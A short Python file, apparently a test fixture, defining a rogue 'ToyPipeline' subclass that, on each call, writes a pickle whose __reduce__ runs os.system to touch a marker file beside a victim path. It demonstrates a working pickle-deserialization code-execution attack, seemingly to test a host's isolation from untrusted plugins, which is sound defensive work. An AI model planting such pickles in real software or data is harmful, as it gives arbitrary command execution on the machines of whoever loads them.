"""Sends a pickle that runs a program where it is opened."""

import os
import pickle
import struct
import sys

from toyfusion import ToyPipeline as Honest


class Trap:
    def __reduce__(self):
        return os.system, (f"touch {os.path.dirname(os.environ['ROGUE_VICTIM'])}/rogue-pickle",)


class ToyPipeline(Honest):
    def __call__(self, prompt, **call):
        data = pickle.dumps(Trap())
        os.write(int(sys.argv[2]), struct.pack(">IQ", len(data), 0) + data)
        return super().__call__(prompt, **call)


def load_pipe():
    return ToyPipeline()
